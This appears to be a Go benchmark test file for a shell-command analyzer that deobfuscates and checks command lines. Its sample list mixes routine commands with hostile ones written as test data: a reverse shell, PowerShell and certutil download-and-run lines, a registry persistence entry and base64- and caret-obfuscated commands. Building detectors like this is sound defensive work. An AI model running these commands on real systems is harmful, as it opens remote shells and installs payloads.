package command

import "testing"

// typicalCommands are realistic command lines under 512 bytes, benign and
// malicious, across the three shells.
var typicalCommands = []string{
	"ls -la /var/log",
	"git commit -m 'fix parser' && git push origin main",
	"find /var/log -type f -name '*.log' -mtime +7 | xargs gzip",
	"docker ps --format '{{.Names}}' | grep api",
	"curl -fsSL https://get.example.com/install.sh | bash",
	"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
	"tar -czf /tmp/backup.tgz /etc/nginx && scp /tmp/backup.tgz ops@10.0.0.5:/srv/backup/",
	`powershell.exe -NoProfile -Command "Get-Process | Where-Object {$_.CPU -gt 100}"`,
	`powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"`,
	"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
	`cmd.exe /c "dir C:\Users\Public /s"`,
	`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\u.exe /f`,
	"certutil -urlcache -split -f http://203.0.113.4/p.exe C:\\Users\\Public\\p.exe",
	"c^m^d /c w^h^o^a^m^i",
	"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | sh",
	"systemctl status nginx",
}

// BenchmarkAnalyze measures deobfuscate + parse + rules per command line.
func BenchmarkAnalyze(b *testing.B) {
	a := newTestAnalyzer(b)
	b.ReportAllocs()
	b.ResetTimer()
	n := 0
	for b.Loop() {
		if _, err := a.Analyze(typicalCommands[n%len(typicalCommands)]); err != nil {
			b.Fatal(err)
		}
		n++
	}
}

// BenchmarkAnalyzeEach reports each typical command separately.
func BenchmarkAnalyzeEach(b *testing.B) {
	a := newTestAnalyzer(b)
	for i, c := range typicalCommands {
		b.Run(benchName(i, c), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				a.Analyze(c)
			}
		})
	}
}

func benchName(i int, c string) string {
	const max = 24
	s := []rune(c)
	if len(s) > max {
		s = s[:max]
	}
	out := make([]rune, 0, len(s))
	for _, r := range s {
		if r == ' ' || r == '/' || r == '\\' {
			r = '_'
		}
		out = append(out, r)
	}
	return string(rune('a'+i)) + "_" + string(out)
}
